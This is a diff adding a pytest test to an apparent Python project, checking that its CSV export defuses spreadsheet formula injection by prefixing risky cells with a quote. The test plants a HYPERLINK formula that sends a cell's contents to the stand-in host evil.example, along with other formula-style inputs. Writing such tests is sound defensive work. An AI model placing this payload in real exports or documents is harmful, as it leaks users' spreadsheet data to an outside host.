@@ -58,3 +58,20 @@ def test_comparisons_saved_under_the_earlier_id_format_still_load(tmp_path) -> N
     assert [r.question for r in list_history(settings)] == ["new?", "old?"]
     with pytest.raises(FileNotFoundError):
         load_comparison(settings, "../history/x")
+
+
+def test_csv_export_neutralises_formulas(tmp_path) -> None:
+    from triptych.history import csv_cell
+
+    settings = Settings(_env_file=None, data_dir=tmp_path)  # type: ignore[call-arg]
+    planted = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    results = {
+        "prompt": PipelineResult(pipeline="prompt", label="Prompt", answer=planted),
+        "rag": PipelineResult(pipeline="rag", label="RAG", answer="25 days [1]", error="-1 is not a valid port"),
+    }
+    record = save_comparison(settings, "@SUM(A1:A9)", "hr", results)
+    rows = list(csv.DictReader(io.StringIO(to_csv([record]))))
+    assert rows[0]["answer"] == "'" + planted
+    assert rows[0]["question"] == "'@SUM(A1:A9)"
+    assert rows[1]["answer"] == "25 days [1]" and rows[1]["error"] == "'-1 is not a valid port"
+    assert [csv_cell(v) for v in ("+1", "\tx", "\rx", "plain", 3)] == ["'+1", "'\tx", "'\rx", "plain", 3]
